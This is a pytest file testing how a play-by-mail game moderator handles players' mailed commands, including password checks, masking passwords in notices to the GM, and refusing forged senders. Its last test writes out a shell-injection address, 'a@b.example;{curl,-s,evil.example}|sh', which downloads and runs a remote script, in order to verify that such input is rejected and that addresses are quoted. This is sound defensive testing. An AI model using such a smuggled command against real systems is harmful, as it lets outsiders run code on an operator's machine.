"""What a judge's player does by mail without writing to the GM (docs/players-guide.md,
Commands): GAMES, FORM, DEADLINE [IN zone], and the requests passed on to the GM: TO GM,
RESIGN, ADDRESS.  Each one through the real intake, with its refusal for a stranger or a
wrong password, and what the GM is told."""

from __future__ import annotations

import shlex
from datetime import UTC, datetime
from pathlib import Path

import pytest
from players.test_commands import (
    JACQUES,
    SHELL_ADDRESS,
    _game_of_kind,
    configured,
    count,
    mails,
    reply,
    send,
    text_of,
)
from sqlalchemy import Engine
from sqlmodel import Session

from moderator.desk import admin
from moderator.intake.process import process_message
from moderator.settings.config import Config
from moderator.store import repo
from moderator.store.db import session_scope
from moderator.store.models import Submission
from moderator.store.statuses import PlayerStatus
from moderator.turn.deadlines import set_deadlines

from support import make_game, order_mail


def _deadline(db: Engine) -> None:
    with session_scope(db) as session:
        set_deadlines(session, repo.game_by_name(session, "paris"),
                      datetime(2027, 1, 10, 18, tzinfo=UTC), now=datetime(2026, 12, 1, tzinfo=UTC))


def test_games_lists_the_games_open_to_join_to_anyone(tmp_path: Path) -> None:
    """njudge's LIST: a newcomer learns which games take players and what to write;
    no password, answered to the sender (a closed game is not listed)."""
    db, config = configured(tmp_path, 'joining = "approval"')
    make_game(db, config)
    make_game(db, config, "london")
    _deadline(db)
    assert send(db, config, "GAMES\n", sender="new@example.org", subject="which games?") \
        == "accepted"
    [answer] = mails(db, "command-reply", "new@example.org")
    text = text_of(answer)
    assert ("  paris: En Garde!, April 1625, 3 players;\n    orders due Sunday 10 January "
            "2027, 19:00 CET;\n    joins after the GM's approval.") in text
    assert "london: En Garde!, April 1625, 3 players;\n    no deadline set yet;" in text
    assert "JOIN GAME london AS Jacques de Lyon" in text
    assert answer.subject == "[moderator] GAMES open to join"


def test_games_leaves_out_a_closed_game(tmp_path: Path) -> None:
    db, config = configured(tmp_path, 'joining = "closed"')
    with session_scope(db) as session:
        admin.create_game(session, config, "paris", "engarde", seed=1)
    send(db, config, "LIST GAMES\n", sender="new@example.org", subject="hello")
    assert "No game is open to new players just now" in reply(db)


def test_form_mails_a_fresh_order_form(db: Engine, config: Config) -> None:
    make_game(db, config)
    assert send(db, config, "PASSWORD: rapier\nFORM\n") == "accepted"
    text = reply(db)
    assert "== FORM ==" in text and "CHARACTER: Jacques de Lyon" in text
    assert "The player's guide" not in text and count(db, Submission) == 0


def test_deadline_in_the_players_own_zone(db: Engine, config: Config) -> None:
    make_game(db, config)
    _deadline(db)
    send(db, config, "PASSWORD: rapier\nDEADLINE IN America/New_York\n")
    assert ("Orders for April 1625 are due Sunday 10 January 2027, 19:00 CET = "
            "Sunday 10 January 2027, 13:00 EST (UTC-05:00)." in " ".join(reply(db).split()))
    send(db, config, "PASSWORD: rapier\ndeadline?\n")
    assert "Orders for April 1625 are due Sunday 10 January 2027, 19:00 CET.\n" in reply(db)
    send(db, config, "PASSWORD: rapier\nDEADLINE IN Mars/Olympus\n")
    assert "Not done: 'Mars/Olympus' is not a time zone the moderator knows" in reply(db)


def test_deadline_not_set_yet(db: Engine, config: Config) -> None:
    make_game(db, config)
    send(db, config, "PASSWORD: rapier\nDEADLINE\n")
    assert "No deadline is set yet for April 1625; the GM will announce it." in reply(db)


def test_to_gm_passes_the_rest_of_the_mail_on_without_the_password(
        db: Engine, config: Config) -> None:
    make_game(db, config)
    assert send(db, config, "PASSWORD: rapier\nSTATUS\nTO GM: a question\nMay I duel "
                            "<b>Porthos</b> twice?\nPASSWORD: rapier\nJacques\n") == "accepted"
    notice = mails(db, "gm-notice")[-1]
    assert notice.subject == "[paris] Jacques de Lyon writes to the GM"
    text = text_of(notice)
    assert "a question\nMay I duel <b>Porthos</b> twice?\nJacques" in text
    assert "rapier" not in text and notice.to_addr == "gm@paris.example"
    assert "is passed on to the GM" in reply(db) and "== STATUS ==" in reply(db)
    assert count(db, Submission) == 0  # the lines after TO GM are not orders
    with Session(db) as session:
        assert any(e.event == "player.to-gm" for e in repo.gm_log(session))


def test_to_gm_never_passes_on_a_password_written_in_the_note(
        db: Engine, config: Config) -> None:
    """The GM's notice is kept in the outbox and mailed: a password the player writes in
    his words to the GM (the one he proves himself with, after its keyword; the new one
    his PASSWORD command sets, wherever) is masked there as in the stored message.  Only
    lines beginning with PASSWORD were left out, so both went to the GM in clear."""
    make_game(db, config)
    assert send(db, config, "PASSWORD: rapier\nPASSWORD longsecret7\nTO GM\nIs my "
                            "password rapier too short?  I made it longsecret7 now.\n"
                            ) == "accepted"
    text = text_of(mails(db, "gm-notice")[-1])
    assert "Is my password [removed after the check] too short?  I made it " \
           "[removed after the check] now." in text
    assert "rapier" not in text and "longsecret7" not in text


def test_resign_asks_the_gm_and_the_player_plays_on(db: Engine, config: Config) -> None:
    make_game(db, config)
    assert send(db, config, "PASSWORD: rapier\nRESIGN\n") == "accepted"
    assert "Your wish to leave is passed on to the GM" in reply(db)
    notice = mails(db, "gm-notice")[-1]
    assert notice.subject == "[paris] Jacques de Lyon asks to leave"
    assert f"moderator player eject paris {JACQUES} --reason" in text_of(notice)
    with Session(db) as session:
        game = repo.game_by_name(session, "paris")
        assert repo.player_by_address(session, game, JACQUES).status == PlayerStatus.ACTIVE
    assert send(db, config, "PASSWORD: rapier\nWEEK 1: PRACTICE rapier\n") == "accepted"


def test_address_asks_the_gm_and_moves_nothing(db: Engine, config: Config) -> None:
    make_game(db, config)
    send(db, config, "PASSWORD: rapier\nNEW ADDRESS Jacques@New.example.\n")
    assert "at jacques@new.example is passed on to the GM" in " ".join(reply(db).split())
    notice = text_of(mails(db, "gm-notice")[-1])
    assert f"moderator player address paris {JACQUES} jacques@new.example" in notice
    assert "player replace paris" in notice
    send(db, config, "PASSWORD: rapier\nADDRESS nowhere\n")
    assert "Not done: 'nowhere' is not a mail address" in reply(db)
    assert {o.to_addr for o in mails(db, "command-reply")} == {JACQUES}


@pytest.mark.parametrize("command", ["FORM", "DEADLINE", "TO GM\nhello", "RESIGN",
                                     "ADDRESS me@x.example"])
def test_each_is_refused_for_a_wrong_password_or_a_stranger(
        db: Engine, config: Config, command: str) -> None:
    make_game(db, config)
    assert send(db, config, f"PASSWORD: wrong\n{command}\n") == "refused"
    assert send(db, config, f"PASSWORD: rapier\n{command}\n", sender="spy@evil.example") \
        == "refused"
    assert not mails(db, "gm-notice") and not mails(db, "command-reply")


def test_games_from_a_forged_sender_is_refused(db: Engine, config: Config) -> None:
    make_game(db, config)
    raw = order_mail("new@example.org", "GAMES\n", subject="games", headers={
        "Authentication-Results": "mx.paris.example; dmarc=fail header.from=example.org"})
    assert process_message(db, config, raw).status == "refused"
    assert not mails(db, "command-reply")


@pytest.mark.parametrize("kind", ["engarde", "dwtk", "fief"])
def test_form_and_deadline_in_every_game_before_its_first_turn(
        db: Engine, config: Config, kind: str) -> None:
    """A game not started yet (DWTK before the deal, DWTK 3; Fief's muster) has a form
    and says its deadline is not set."""
    name, sender, password = _game_of_kind(db, config, kind)
    assert send(db, config, f"PASSWORD: {password}\nFORM\nDEADLINE\n", sender=sender,
                subject=f"[{name}] x") == "accepted"
    text = reply(db)
    form = text.split("== FORM ==\n\n")[1].split("\n== DEADLINE ==")[0]
    assert form.strip() and "No deadline is set yet for" in text


def test_address_and_resign_notices_cannot_run_commands_on_the_gms_machine(
        db: Engine, config: Config) -> None:
    """ADDRESS took anything with an "@" and no <>"'\\ or space, and the notice wrote it
    bare into the `moderator player address/replace` lines the GM pastes: ADDRESS
    a@b.example;{curl,-s,evil.example}|sh ran a stranger's script.  Only an address mail
    can go to is taken, and the lines quote it (RFC 5322 lets one hold ` $ & |)."""
    make_game(db, config)
    send(db, config, "PASSWORD: rapier\nADDRESS a@b.example;{curl,-s,evil.example}|sh\n")
    assert "is not a mail address" in reply(db) and not mails(db, "gm-notice")
    send(db, config, f"PASSWORD: rapier\nADDRESS {SHELL_ADDRESS}\n")
    lines = [line.strip() for line in text_of(mails(db, "gm-notice")[-1]).splitlines()
             if line.strip().startswith("moderator player")]
    assert len(lines) == 2
    for line in lines:  # moderator player address|replace paris OLD NEW --reason ...
        assert shlex.split(line)[4:6] == [JACQUES, SHELL_ADDRESS], line
    send(db, config, "PASSWORD: rapier\nRESIGN\n")
    notice = text_of(mails(db, "gm-notice")[-1])
    assert all(shlex.split(line.strip())[4] == JACQUES for line in notice.splitlines()
               if line.strip().startswith("moderator player"))
